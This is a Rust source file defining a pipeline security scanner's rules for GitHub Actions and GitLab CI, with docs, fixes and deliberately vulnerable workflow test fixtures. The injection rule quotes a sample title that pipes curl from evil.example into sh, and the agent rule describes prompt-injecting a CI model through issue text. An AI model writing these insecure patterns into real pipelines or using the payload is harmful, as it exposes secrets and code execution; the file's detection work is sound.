//! What the rules about pipelines say of themselves.

use ward_evidence::{
    RuleMeta, Severity,
    controls::{CODE_1A, CODE_2A, CODE_3A, CODE_4A, DEP_2A, DEP_4A, SEC_1A},
};

#[cfg(test)]
use crate::code::infra::Example;

/// Every rule about pipelines.
pub(in super::super) static RULES: &[&RuleMeta] = &[
    &INJECTION,
    &ENVIRONMENT_INJECTION,
    &UNTRUSTED_CHECKOUT,
    &TRIGGER,
    &BOT_CONDITION,
    &AGENT,
    &KNOWN_BAD,
    &UNPINNED_ACTION,
    &UNPINNED_IMAGE,
    &UNPINNED_INCLUDE,
    &NO_PERMISSIONS,
    &WIDE_PERMISSIONS,
    &SECRETS_INHERIT,
    &SECRETS_WHOLE,
    &CREDENTIAL,
    &KEPT_TOKEN,
    &UNSECURE_COMMANDS,
    &SELF_HOSTED,
    &CACHE,
    &CHECK_CANNOT_FAIL,
    &DEBUG_TRACE,
    &OPEN_DAEMON,
];

pub(super) static INJECTION: RuleMeta = RuleMeta {
    id: "workflow/script-injection",
    severity: Severity::High,
    controls: &[CODE_1A, CODE_3A],
    summary: "Text that strangers write becomes part of a script of the pipeline.",
    docs: "`${{ .. }}` is filled in before the shell reads the script. A title of `\"; curl evil.example | sh; \"` is then a \
        command, with the token and the secrets of the job. Titles, bodies, comments, names of branches and messages of commits \
        are written by strangers; inputs by whoever calls. The severity follows from who can start the workflow and with \
        what rights.\n\n\
        Example: `run: echo \"${{ github.event.issue.title }}\"`\n\n\
        **Instead:** put it into a variable, which the shell does not read as a program, and quote it: `env: {TITLE: ${{ \
        github.event.issue.title }}}`, `run: echo \"$TITLE\"`. In GitLab, do not hand such variables to `eval` or `sh -c`.\n\n\
        Source: GitHub documentation, *Security hardening: script injections*; CWE-94, CWE-78.",
};

pub(super) static ENVIRONMENT_INJECTION: RuleMeta = RuleMeta {
    id: "workflow/environment-injection",
    severity: Severity::High,
    controls: &[CODE_1A, CODE_3A],
    summary: "Text that strangers write goes into the file that sets variables for later steps.",
    docs: "Lines of `GITHUB_ENV` and `GITHUB_PATH` become variables of every later step. A line break in a body or a message \
        adds one, such as `LD_PRELOAD`.\n\n\
        Example: `run: echo \"BODY=$BODY\" >> $GITHUB_ENV`\n\n\
        **Instead:** pass it as `env` of the step that needs it; or write it between delimiters that nobody can guess.\n\n\
        Source: GitHub documentation, *Workflow commands: setting an environment variable*; CWE-74.",
};

pub(super) static UNTRUSTED_CHECKOUT: RuleMeta = RuleMeta {
    id: "workflow/untrusted-checkout",
    severity: Severity::Critical,
    controls: &[CODE_1A, SEC_1A],
    summary: "A workflow with the rights of the repository takes the code of a pull request.",
    docs: "`pull_request_target`, `workflow_run` and comments start a workflow of the repository itself, with its secrets and a \
        token that writes. Building or testing a stranger's code there (its `setup.py`, its `Makefile`, its tests) runs it with \
        them.\n\n\
        Example: `on: pull_request_target` with `actions/checkout` and `ref: ${{ github.event.pull_request.head.sha }}`\n\n\
        **Instead:** run strangers' code on `pull_request`, without secrets, and hand on results as artifacts to a second \
        workflow that runs none of it; or let a person release each run with a protected environment.\n\n\
        Source: GitHub Security Lab, *Preventing pwn requests*; CWE-829; the compromise of ultralytics, December 2024.",
};

pub(super) static TRIGGER: RuleMeta = RuleMeta {
    id: "workflow/privileged-trigger",
    severity: Severity::Low,
    controls: &[CODE_1A],
    summary: "A workflow that strangers start has the secrets of the repository.",
    docs: "Nothing is wrong yet, and little is needed for it: each step has to be read with a stranger in mind.\n\n\
        Example: `on: pull_request_target`\n\n\
        **Instead:** `pull_request`, where no secret is needed.\n\n\
        Source: GitHub documentation, *Events that trigger workflows*.",
};

pub(super) static BOT_CONDITION: RuleMeta = RuleMeta {
    id: "workflow/bot-condition",
    severity: Severity::Medium,
    controls: &[CODE_1A],
    summary: "A condition lets a bot through by a name that strangers can cause.",
    docs: "`github.actor` is who caused the newest event. A stranger can have a bot act on a pull request that the stranger \
        wrote, and the condition holds.\n\n\
        Example: `if: github.actor == 'dependabot[bot]'` on `pull_request_target`\n\n\
        **Instead:** `github.event.pull_request.user.login == 'dependabot[bot]'`, who opened it.\n\n\
        Source: GitHub documentation, *Automating Dependabot with GitHub Actions*; CWE-290.",
};

pub(super) static AGENT: RuleMeta = RuleMeta {
    id: "workflow/agent-untrusted-prompt",
    severity: Severity::High,
    controls: &[CODE_2A, CODE_3A],
    summary: "Strangers can tell an agent in the pipeline what to do.",
    docs: "A model that reads an issue and has a shell and a token does what the issue says: prints secrets, pushes code, closes \
        what it should not. A system prompt does not stop it.\n\n\
        Example: `anthropics/claude-code-action` on `issues` with `prompt: Sort this: ${{ github.event.issue.body }}`\n\n\
        **Instead:** start agents for people who may write only, give the job a token that reads and no secrets beyond the \
        model's key, allow named tools, and let a second step without a model act on a result of a fixed form.\n\n\
        Source: OWASP LLM01:2025, prompt injection, and LLM06:2025, excessive agency.",
};

pub(super) static KNOWN_BAD: RuleMeta = RuleMeta {
    id: "workflow/known-vulnerable-action",
    severity: Severity::High,
    controls: &[CODE_1A, DEP_2A],
    summary: "An action is used in a version that is known to be faulty or was taken over.",
    docs: "The version is named in a public advisory. Where an action was taken over, what ran it has printed or sent away the \
        secrets of the job: replace them, even when the tag has been repaired since.\n\n\
        Example: `uses: tj-actions/changed-files@v45`\n\n\
        **Instead:** the version that the advisory names as repaired, pinned by its commit.\n\n\
        Source: GitHub Advisory Database, ecosystem *GitHub Actions*; CISA alert on CVE-2025-30066.",
};

pub(super) static UNPINNED_ACTION: RuleMeta = RuleMeta {
    id: "workflow/unpinned-action",
    severity: Severity::Medium,
    controls: &[DEP_2A, DEP_4A],
    summary: "An action or a reusable workflow is named by a tag or a branch, which can be moved.",
    docs: "Whoever takes over the action's repository moves its tags, and runs code here with the secrets of the job: so it \
        happened in March 2025 and in March 2026. A commit's id cannot be moved. Actions of the service itself (`actions/..`) \
        are shown in the thorough profile, unless a branch is named.\n\n\
        Example: `uses: someone/deploy@v2`\n\n\
        **Instead:** `uses: someone/deploy@<40 digits of the commit> # v2.1.0`; Dependabot and Renovate keep the commit and the \
        comment up to date.\n\n\
        Source: GitHub documentation, *Using third-party actions*; OpenSSF Scorecard, *Pinned-Dependencies*; CWE-829.",
};

pub(super) static UNPINNED_IMAGE: RuleMeta = RuleMeta {
    id: "workflow/unpinned-image",
    severity: Severity::Low,
    controls: &[DEP_2A, DEP_4A],
    summary: "A job runs in an image without a version.",
    docs: "An image without a tag, or with `latest`, is another one after the next push to its registry: results cannot be \
        repeated, and whoever can push there runs code in the job.\n\n\
        Example: `container: acme/builder`\n\n\
        **Instead:** `container: acme/builder:1.4@sha256:..`\n\n\
        Source: OpenSSF Scorecard, *Pinned-Dependencies*; CWE-829.",
};

pub(super) static UNPINNED_INCLUDE: RuleMeta = RuleMeta {
    id: "workflow/unpinned-include",
    severity: Severity::Medium,
    controls: &[DEP_2A, DEP_4A],
    summary: "Part of a pipeline comes from elsewhere, in whatever state it is.",
    docs: "An included file is pipeline: it runs commands with the variables of the project.\n\n\
        Example: `include: {remote: https://example.org/ci.yml}`\n\n\
        **Instead:** `project` with `ref` set to a commit, or `remote` with `integrity`.\n\n\
        Source: GitLab documentation, *CI/CD YAML syntax reference: include*; CWE-829.",
};

pub(super) static NO_PERMISSIONS: RuleMeta = RuleMeta {
    id: "workflow/permissions-missing",
    severity: Severity::Low,
    controls: &[CODE_1A],
    summary: "A workflow does not say what its token may do.",
    docs: "Without `permissions` the token has the default of the repository or its owner, which for older ones is to write \
        everything. One bad action or dependency can then push code and releases.\n\n\
        Example: a workflow without `permissions`\n\n\
        **Instead:** `permissions: {}` or `contents: read` at the top, and more at the job that needs it.\n\n\
        Source: GitHub documentation, *Controlling permissions for GITHUB_TOKEN*; OpenSSF Scorecard, *Token-Permissions*.",
};

pub(super) static WIDE_PERMISSIONS: RuleMeta = RuleMeta {
    id: "workflow/permissions-wide",
    severity: Severity::Medium,
    controls: &[CODE_1A],
    summary: "The token of a workflow may write more than its jobs need.",
    docs: "What the token may do, every step of every job may do, and every package that is installed in one.\n\n\
        Example: `permissions: write-all`\n\n\
        **Instead:** `permissions: {}` at the top, and the few rights at the job that needs them.\n\n\
        Source: GitHub documentation, *Controlling permissions for GITHUB_TOKEN*; CWE-250.",
};

pub(super) static SECRETS_INHERIT: RuleMeta = RuleMeta {
    id: "workflow/secrets-inherit",
    severity: Severity::Medium,
    controls: &[SEC_1A],
    summary: "All secrets are given to a reusable workflow.",
    docs: "The workflow that is called gets every secret the caller has, those of other services too.\n\n\
        Example: `uses: someone/ci/.github/workflows/build.yml@v1` with `secrets: inherit`\n\n\
        **Instead:** name the secrets it needs under `secrets:`.\n\n\
        Source: GitHub documentation, *Reuse workflows*; CWE-272.",
};

pub(super) static SECRETS_WHOLE: RuleMeta = RuleMeta {
    id: "workflow/all-secrets",
    severity: Severity::Medium,
    controls: &[SEC_1A],
    summary: "All secrets are written out as one text.",
    docs: "`toJSON(secrets)` puts every secret the job can see, those of the organisation too, into one value. A step that prints \
        or sends it gives all of them away, and the masking of logs knows the single values, not what a program makes of them.\n\n\
        Example: `env: {ALL: \"${{ toJSON(secrets) }}\"}`\n\n\
        **Instead:** name the secrets that a step needs, each as a variable of that step.\n\n\
        Source: GitHub documentation, *Using secrets in GitHub Actions*; CWE-272, least privilege violation.",
};

pub(super) static CREDENTIAL: RuleMeta = RuleMeta {
    id: "workflow/credential",
    severity: Severity::High,
    controls: &[SEC_1A],
    summary: "A password or a token is written into a pipeline.",
    docs: "Everybody who reads the repository, or ever cloned it, has it.\n\n\
        Example: `env: {DEPLOY_TOKEN: 7f3a..}`\n\n\
        **Instead:** a secret of the service, `${{ secrets.DEPLOY_TOKEN }}`, or better a short-lived identity (OIDC); and \
        replace the one that stands here.\n\n\
        Source: CWE-798, use of hard-coded credentials.",
};

pub(super) static KEPT_TOKEN: RuleMeta = RuleMeta {
    id: "workflow/kept-token",
    severity: Severity::High,
    controls: &[SEC_1A],
    summary: "The token that a checkout leaves in the folder is uploaded or lies there for later steps.",
    docs: "`actions/checkout` writes the token of the job into `.git/config`. An artifact of the whole folder takes it along, and \
        artifacts of public repositories can be downloaded by everybody, while the job still runs.\n\n\
        Example: `actions/checkout@v4`, then `actions/upload-artifact@v3` with `path: .`\n\n\
        **Instead:** `with: {persist-credentials: false}`, and upload named folders.\n\n\
        Source: Unit 42, *ArtiPACKED*, August 2024; CWE-522.",
};

pub(super) static UNSECURE_COMMANDS: RuleMeta = RuleMeta {
    id: "workflow/unsecure-commands",
    severity: Severity::High,
    controls: &[CODE_1A],
    summary: "Commands that were switched off because output could give them are switched on again.",
    docs: "With `ACTIONS_ALLOW_UNSECURE_COMMANDS` any line that a step prints, from a test or from a title, can set variables and \
        paths of the steps after it.\n\n\
        Example: `env: {ACTIONS_ALLOW_UNSECURE_COMMANDS: true}`\n\n\
        **Instead:** write to `$GITHUB_ENV` and `$GITHUB_PATH`.\n\n\
        Source: CVE-2020-15228.",
};

pub(super) static SELF_HOSTED: RuleMeta = RuleMeta {
    id: "workflow/self-hosted-runner",
    severity: Severity::Medium,
    controls: &[CODE_1A],
    summary: "Pull requests run on a machine of your own.",
    docs: "Unless it is made anew for each job, what a pull request does to the machine stays: a process, a changed tool, a look \
        into your network. In a private repository it concerns those who may open pull requests.\n\n\
        Example: `runs-on: self-hosted` with `on: pull_request`\n\n\
        **Instead:** hosted runners for pull requests, or runners for one job each (just-in-time), in a network of their own, \
        and approval for every outside contributor.\n\n\
        Source: GitHub documentation, *Hardening for self-hosted runners*; the takeover of a runner of PyTorch, 2023.",
};

pub(super) static CACHE: RuleMeta = RuleMeta {
    id: "workflow/cache-poisoning",
    severity: Severity::Low,
    controls: &[DEP_4A],
    summary: "A workflow that publishes restores a cache which other workflows fill.",
    docs: "Whoever runs code in any workflow of the branch can write a cache entry, and the release is built with it.\n\n\
        Example: `actions/cache` in the job that publishes to the package index\n\n\
        **Instead:** build releases without a cache.\n\n\
        Source: GitHub documentation, *Dependency caching: restrictions*; CWE-349.",
};

pub(super) static CHECK_CANNOT_FAIL: RuleMeta = RuleMeta {
    id: "workflow/check-cannot-fail",
    severity: Severity::Medium,
    controls: &[CODE_1A, CODE_4A],
    summary: "A security check is run, and its result thrown away.",
    docs: "The pipeline is green whatever the check finds. A policy that promises the check is then not kept, and nobody \
        notices.\n\n\
        Example: `run: pip-audit || true`\n\n\
        **Instead:** let it fail, and list what is accepted with a reason (a baseline, an ignore file); or make a report of it \
        that somebody has to read.\n\n\
        Source: NIST SP 800-218 (SSDF), PW.7 and PW.8; CWE-390.",
};

pub(super) static DEBUG_TRACE: RuleMeta = RuleMeta {
    id: "workflow/debug-trace",
    severity: Severity::High,
    controls: &[SEC_1A],
    summary: "A pipeline prints all its variables into the log.",
    docs: "`CI_DEBUG_TRACE` prints every command with its variables, among them secrets that are not masked.\n\n\
        Example: `variables: {CI_DEBUG_TRACE: \"true\"}`\n\n\
        **Instead:** switch it on by hand for one run, and delete its log.\n\n\
        Source: GitLab documentation, *Enable debug logging*; CWE-532.",
};

pub(super) static OPEN_DAEMON: RuleMeta = RuleMeta {
    id: "workflow/docker-without-tls",
    severity: Severity::Medium,
    controls: &[CODE_1A],
    summary: "A Docker daemon of a pipeline listens without TLS.",
    docs: "Whoever reaches the port starts containers with the rights of the runner.\n\n\
        Example: `variables: {DOCKER_TLS_CERTDIR: \"\"}`\n\n\
        **Instead:** `DOCKER_TLS_CERTDIR: /certs`, or build without a daemon (Buildah, Kaniko).\n\n\
        Source: GitLab documentation, *Use Docker to build Docker images*; CWE-306.",
};

#[cfg(test)]
const PATH: &str = ".github/workflows/ci.yml";

#[cfg(test)]
pub(in super::super) static EXAMPLES: &[Example] = &[
    Example {
        rule: "workflow/script-injection",
        path: PATH,
        bad: &[
            "on: issues\njobs:\n  a:\n    steps:\n      - run: echo \"${{ github.event.issue.title }}\"\n",
            "on: [pull_request]\njobs:\n  a:\n    steps:\n      - run: git checkout ${{ github.head_ref }}\n",
            "on: issue_comment\njobs:\n  a:\n    steps:\n      - uses: actions/github-script@v7\n        with:\n          script: |\n            const x = `${{ github.event.comment.body }}`\n",
            "on: pull_request_target\nenv: {T: \"${{ github.event.pull_request.title }}\"}\njobs:\n  a:\n    steps:\n      - run: echo ${{ env.T }}\n",
            "on: push\njobs:\n  a:\n    steps:\n      - run: echo '${{ github.event.head_commit.message }}'\n",
            "on: pull_request\njobs:\n  a:\n    steps:\n      - run: echo ${{ format('x {0}', github.event.pull_request.body) }}\n",
        ],
        good: &[
            "on: issues\njobs:\n  a:\n    steps:\n      - run: echo \"$TITLE\"\n        env: {TITLE: \"${{ github.event.issue.title }}\"}\n",
            "on: issue_comment\njobs:\n  a:\n    steps:\n      - run: echo ${{ contains(github.event.comment.body, '/test') }}\n",
            "on: pull_request\njobs:\n  a:\n    steps:\n      - run: echo ${{ github.event.pull_request.number }} ${{ github.sha }}\n",
            "on: push\njobs:\n  a:\n    steps:\n      - run: echo ${{ github.head_ref }}\n",
            "on:\n  workflow_dispatch:\n    inputs:\n      level: {type: choice, options: [a, b]}\njobs:\n  a:\n    steps:\n      - run: echo ${{ inputs.level }}\n",
        ],
    },
    Example {
        rule: "workflow/script-injection",
        path: ".gitlab-ci.yml",
        bad: &[
            "a:\n  script:\n    - eval \"echo $CI_COMMIT_MESSAGE\"\n",
            "a:\n  script: bash -c \"echo $CI_MERGE_REQUEST_TITLE\"\n",
        ],
        good: &[
            "a:\n  script:\n    - echo \"$CI_COMMIT_MESSAGE\"\n",
            "a:\n  script: bash -c 'echo \"$CI_COMMIT_TITLE\"'\n",
        ],
    },
    Example {
        rule: "workflow/script-injection",
        path: "action.yml",
        bad: &["runs:\n  using: composite\n  steps:\n    - run: echo ${{ inputs.name }}\n      shell: bash\n"],
        good: &[
            "runs:\n  using: composite\n  steps:\n    - run: echo \"$NAME\"\n      shell: bash\n      env: {NAME: \"${{ inputs.name }}\"}\n",
        ],
    },
    Example {
        rule: "workflow/environment-injection",
        path: PATH,
        bad: &[
            "on: issues\njobs:\n  a:\n    steps:\n      - run: echo \"B=$BODY\" >> $GITHUB_ENV\n        env: {BODY: \"${{ github.event.issue.body }}\"}\n",
        ],
        good: &[
            "on: issues\njobs:\n  a:\n    steps:\n      - run: echo \"B=$BODY\"\n        env: {BODY: \"${{ github.event.issue.body }}\"}\n",
            "on: issues\njobs:\n  a:\n    steps:\n      - run: echo \"N=$N\" >> $GITHUB_ENV\n        env: {N: \"${{ github.event.issue.number }}\"}\n",
        ],
    },
    Example {
        rule: "workflow/untrusted-checkout",
        path: PATH,
        bad: &[
            "on: pull_request_target\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n        with: {ref: \"${{ github.event.pull_request.head.sha }}\"}\n      - run: make test\n",
            "on: workflow_run\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n        with: {ref: \"${{ github.event.workflow_run.head_sha }}\"}\n",
            "on: issue_comment\njobs:\n  a:\n    steps:\n      - run: gh pr checkout $NUMBER && make\n",
            "on: pull_request_target\njobs:\n  a:\n    steps:\n      - run: git fetch origin pull/${{ github.event.number }}/head\n",
        ],
        good: &[
            "on: pull_request_target\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n      - run: make label\n",
            "on: pull_request\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n        with: {ref: \"${{ github.event.pull_request.head.sha }}\"}\n",
        ],
    },
    Example {
        rule: "workflow/privileged-trigger",
        path: PATH,
        bad: &[
            "on: [pull_request_target]\njobs: {a: {steps: []}}\n",
            "on:\n  workflow_run: {workflows: [x]}\njobs: {a: {steps: []}}\n",
        ],
        good: &["on: pull_request\njobs: {a: {steps: []}}\n"],
    },
    Example {
        rule: "workflow/bot-condition",
        path: PATH,
        bad: &[
            "on: pull_request_target\njobs:\n  a:\n    if: github.actor == 'dependabot[bot]'\n    steps: [{run: x}]\n",
        ],
        good: &[
            "on: pull_request_target\njobs:\n  a:\n    if: github.event.pull_request.user.login == 'dependabot[bot]'\n    steps: [{run: x}]\n",
            "on: pull_request\njobs:\n  a:\n    if: github.actor != 'dependabot[bot]'\n    steps: [{run: x}]\n",
        ],
    },
    Example {
        rule: "workflow/agent-untrusted-prompt",
        path: PATH,
        bad: &[
            "on: issues\njobs:\n  a:\n    steps:\n      - uses: anthropics/claude-code-action@v1\n        with:\n          prompt: |\n            Sort this issue:\n            ${{ github.event.issue.body }}\n",
            "on: issue_comment\njobs:\n  a:\n    steps:\n      - uses: openai/codex-action@v1\n        with: {allow-users: \"*\"}\n",
            "on: issues\njobs:\n  a:\n    steps:\n      - run: claude -p \"look\" --dangerously-skip-permissions\n",
        ],
        good: &[
            "on: workflow_dispatch\njobs:\n  a:\n    steps:\n      - uses: anthropics/claude-code-action@v1\n        with: {prompt: Look for dead links}\n",
            "on: issues\njobs:\n  a:\n    steps:\n      - run: echo claude\n",
        ],
    },
    Example {
        rule: "workflow/known-vulnerable-action",
        path: PATH,
        bad: &[
            "on: push\njobs:\n  a:\n    steps:\n      - uses: tj-actions/changed-files@v45\n",
            "on: push\njobs:\n  a:\n    steps:\n      - uses: tj-actions/changed-files@0e58ed8671d6b60d0890c21b07f8835ace038e67\n",
            "on: push\njobs:\n  a:\n    steps:\n      - uses: aquasecurity/trivy-action@0123456789012345678901234567890123456789 # 0.28.0\n",
        ],
        good: &[
            "on: push\njobs:\n  a:\n    steps:\n      - uses: tj-actions/changed-files@v46\n      - uses: actions/download-artifact@v4\n",
        ],
    },
    Example {
        rule: "workflow/unpinned-action",
        path: PATH,
        bad: &[
            "on: push\njobs:\n  a:\n    steps:\n      - uses: acme/deploy@v2\n",
            "on: push\njobs:\n  a:\n    steps:\n      - uses: acme/deploy@main\n",
            "on: push\njobs:\n  a:\n    uses: acme/ci/.github/workflows/x.yml@v1\n",
            "on: push\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n",
        ],
        good: &[
            "on: push\njobs:\n  a:\n    steps:\n      - uses: acme/deploy@0123456789012345678901234567890123456789 # v2\n      - uses: ./local\n",
        ],
    },
    Example {
        rule: "workflow/unpinned-image",
        path: PATH,
        bad: &[
            "on: push\njobs:\n  a:\n    container: acme/builder\n    steps: []\n",
            "on: push\njobs:\n  a:\n    services: {db: {image: \"postgres:latest\"}}\n    steps: []\n",
            "on: push\njobs:\n  a:\n    steps: [{uses: \"docker://acme/x:latest\"}]\n",
        ],
        good: &[
            "on: push\njobs:\n  a:\n    container: \"acme/builder:1@sha256:00\"\n    steps: []\n",
            "on: push\njobs:\n  a:\n    container: \"${{ matrix.image }}\"\n    steps: []\n",
        ],
    },
    Example {
        rule: "workflow/unpinned-image",
        path: ".gitlab-ci.yml",
        bad: &[
            "image: python\n",
            "a:\n  image: {name: \"x/y:latest\"}\n  script: x\n",
            "a:\n  services: [postgres]\n  script: x\n",
        ],
        good: &[
            "image: \"$CI_REGISTRY_IMAGE/x\"\n",
            "a:\n  image: \"python@sha256:00\"\n  script: x\n",
        ],
    },
    Example {
        rule: "workflow/unpinned-include",
        path: ".gitlab-ci.yml",
        bad: &[
            "include: https://acme.dev/ci.yml\n",
            "include:\n  - remote: http://acme.dev/ci.yml\n",
            "include: [{project: a/b, file: /ci.yml}]\n",
        ],
        good: &[
            "include: [{local: /a.yml}, {project: a/b, file: x.yml, ref: 0123456789012345678901234567890123456789}]\n",
        ],
    },
    Example {
        rule: "workflow/permissions-missing",
        path: PATH,
        bad: &[
            "on: push\njobs:\n  a:\n    steps: []\n",
            "on: push\njobs:\n  a: {permissions: {}, steps: []}\n  b: {steps: []}\n",
        ],
        good: &[
            "on: push\npermissions: {}\njobs:\n  a:\n    steps: []\n",
            "on: push\njobs:\n  a: {permissions: {}, steps: []}\n",
        ],
    },
    Example {
        rule: "workflow/permissions-wide",
        path: PATH,
        bad: &[
            "on: push\npermissions: write-all\njobs: {a: {steps: []}}\n",
            "on: push\njobs:\n  a: {permissions: write-all, steps: []}\n",
        ],
        good: &[
            "on: push\npermissions: {contents: read}\njobs: {a: {steps: []}}\n",
            "on: push\npermissions: read-all\njobs: {a: {steps: []}}\n",
        ],
    },
    Example {
        rule: "workflow/secrets-inherit",
        path: PATH,
        bad: &["on: push\njobs:\n  a:\n    uses: acme/ci/.github/workflows/x.yml@v1\n    secrets: inherit\n"],
        good: &[
            "on: push\njobs:\n  a:\n    uses: acme/ci/.github/workflows/x.yml@v1\n    secrets: {t: \"${{ secrets.T }}\"}\n",
        ],
    },
    Example {
        rule: "workflow/all-secrets",
        path: PATH,
        bad: &[
            "on: push\njobs:\n  a:\n    steps:\n      - run: ./x\n        env: {A: \"${{ toJSON(secrets) }}\"}\n",
            "on: push\njobs:\n  a:\n    steps:\n      - run: |\n          echo '${{ tojson( secrets ) }}' > x\n",
        ],
        good: &[
            "on: push\njobs:\n  a:\n    steps:\n      - run: ./x\n        env: {A: \"${{ secrets.A }}\"}\n",
            "on: push\njobs:\n  a:\n    steps:\n      - run: ./x\n        env: {A: \"${{ toJSON(github.event) }}\"}\n",
            "# ${{ toJSON(secrets) }} would be all of them\non: push\njobs: {a: {steps: []}}\n",
        ],
    },
    Example {
        rule: "workflow/credential",
        path: PATH,
        bad: &[
            concat!(
                "on: push\njobs:\n  a:\n    steps:\n      - run: x\n        env: {DEPLOY_TOKEN: ",
                "Zk81pq77Lm",
                "}\n"
            ),
            concat!(
                "on: push\njobs:\n  a:\n    container: {image: \"x:1\", credentials: {username: u, password: ",
                "Zk81pq77Lm",
                "}}\n    steps: []\n"
            ),
        ],
        good: &[
            "on: push\njobs:\n  a:\n    steps:\n      - run: x\n        env: {DEPLOY_TOKEN: \"${{ secrets.T }}\", POSTGRES_PASSWORD: postgres1, TOKENIZERS_PARALLELISM: false}\n",
        ],
    },
    Example {
        rule: "workflow/kept-token",
        path: PATH,
        bad: &[
            "on: push\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/upload-artifact@v3\n        with: {path: .}\n",
        ],
        good: &[
            "on: push\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n        with: {persist-credentials: false}\n      - uses: actions/upload-artifact@v4\n        with: {path: dist}\n",
        ],
    },
    Example {
        rule: "workflow/unsecure-commands",
        path: PATH,
        bad: &["on: push\nenv: {ACTIONS_ALLOW_UNSECURE_COMMANDS: true}\njobs: {a: {steps: []}}\n"],
        good: &["on: push\nenv: {ACTIONS_ALLOW_UNSECURE_COMMANDS: false}\njobs: {a: {steps: []}}\n"],
    },
    Example {
        rule: "workflow/self-hosted-runner",
        path: PATH,
        bad: &["on: pull_request\njobs:\n  a:\n    runs-on: [self-hosted, gpu]\n    steps: []\n"],
        good: &[
            "on: push\njobs:\n  a:\n    runs-on: self-hosted\n    steps: []\n",
            "on: pull_request\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps: []\n",
        ],
    },
    Example {
        rule: "workflow/cache-poisoning",
        path: PATH,
        bad: &[
            "on: release\njobs:\n  a:\n    steps:\n      - uses: actions/cache@v4\n      - uses: pypa/gh-action-pypi-publish@v1\n",
        ],
        good: &["on: push\njobs:\n  a:\n    steps:\n      - uses: actions/cache@v4\n      - run: make test\n"],
    },
    Example {
        rule: "workflow/check-cannot-fail",
        path: PATH,
        bad: &[
            "on: push\njobs:\n  a:\n    steps:\n      - run: pip-audit -r requirements.txt || true\n",
            "on: push\njobs:\n  a:\n    steps:\n      - run: bandit -r . --exit-zero\n",
            "on: push\njobs:\n  a:\n    continue-on-error: true\n    steps:\n      - uses: gitleaks/gitleaks-action@v2\n",
            "on: push\njobs:\n  a:\n    steps:\n      - run: |\n          set +e\n          npm audit\n",
            "on: push\njobs:\n  a:\n    steps:\n      - uses: aquasecurity/trivy-action@0.35.0\n        with: {image-ref: x}\n",
        ],
        good: &[
            "on: push\njobs:\n  a:\n    steps:\n      - run: pip-audit -r requirements.txt\n",
            "on: push\njobs:\n  a:\n    steps:\n      - run: make || true\n",
            "on: push\njobs:\n  a:\n    steps:\n      - run: pip install bandit || true\n      - run: bandit -r .\n",
        ],
    },
    Example {
        rule: "workflow/check-cannot-fail",
        path: ".gitlab-ci.yml",
        bad: &[
            "scan:\n  allow_failure: true\n  script: [trivy fs .]\n",
            "scan:\n  script: [semgrep scan || true]\n",
        ],
        good: &[
            "scan:\n  script: [trivy fs .]\n",
            "lint:\n  allow_failure: true\n  script: [ruff check .]\n",
        ],
    },
    Example {
        rule: "workflow/debug-trace",
        path: ".gitlab-ci.yml",
        bad: &["variables: {CI_DEBUG_TRACE: \"true\"}\n"],
        good: &["variables: {CI_DEBUG_TRACE: \"false\"}\n"],
    },
    Example {
        rule: "workflow/docker-without-tls",
        path: ".gitlab-ci.yml",
        bad: &["variables: {DOCKER_TLS_CERTDIR: \"\"}\n"],
        good: &["variables: {DOCKER_TLS_CERTDIR: /certs}\n"],
    },
];
